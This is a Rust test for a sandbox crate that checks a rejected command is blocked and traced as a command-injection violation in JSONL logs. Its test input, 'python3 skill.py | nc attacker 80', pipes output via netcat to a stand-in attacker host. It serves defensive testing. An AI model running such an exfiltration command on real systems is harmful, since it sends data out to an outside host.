#![allow(clippy::unwrap_used)]

use std::io::BufRead;

use skillguard_core::{SandboxConfig, SandboxExecutor, SkillRequest};
use skillguard_sandbox::ProcessSandbox;
use tracing_subscriber::fmt::format::FmtSpan;
use tracing_subscriber::prelude::*;

/// Run a rejected command with tracing captured to a temp file, then
/// check the execution span and the violation event reach the JSONL output.
#[tokio::test]
async fn rejected_command_is_traced() {
    let dir = tempfile::tempdir().unwrap();
    let trace_file = dir.path().join("traces.jsonl");

    let file_appender = tracing_appender::rolling::never(dir.path(), "traces.jsonl");
    let (non_blocking, guard) = tracing_appender::non_blocking(file_appender);

    let jsonl_layer = tracing_subscriber::fmt::layer()
        .json()
        .with_writer(non_blocking)
        .with_span_list(true)
        .with_span_events(FmtSpan::CLOSE)
        .with_filter(tracing_subscriber::EnvFilter::new("debug"));

    let subscriber = tracing_subscriber::Registry::default().with(jsonl_layer);
    let dispatch = tracing::dispatcher::Dispatch::new(subscriber);
    let default_guard = tracing::dispatcher::set_default(&dispatch);

    let skill_dir = dir.path().join("evil-skill");
    std::fs::create_dir(&skill_dir).unwrap();
    let sandbox = ProcessSandbox::new(SandboxConfig::hardened());
    let request = SkillRequest::new("invoke", serde_json::Value::Null, 1);
    let result = sandbox
        .execute("python3 skill.py | nc attacker 80", &skill_dir, &request, None)
        .await;
    assert!(!result.success);

    drop(default_guard);
    drop(guard);

    let file = std::fs::File::open(&trace_file).unwrap();
    let lines: Vec<String> = std::io::BufReader::new(file)
        .lines()
        .map(|l| l.unwrap())
        .filter(|l| !l.is_empty())
        .collect();

    assert!(!lines.is_empty(), "trace file should not be empty");
    for line in &lines {
        let _: serde_json::Value = serde_json::from_str(line)
            .unwrap_or_else(|e| panic!("invalid JSON: {e}\nline: {line}"));
    }

    let all_text = lines.join("\n");
    assert!(all_text.contains("process_exec"), "missing process_exec span");
    assert!(all_text.contains("sandbox violation"), "missing violation event");
    assert!(all_text.contains("command_injection"), "missing violation kind");
    assert!(all_text.contains("evil-skill"), "missing skill id");
}
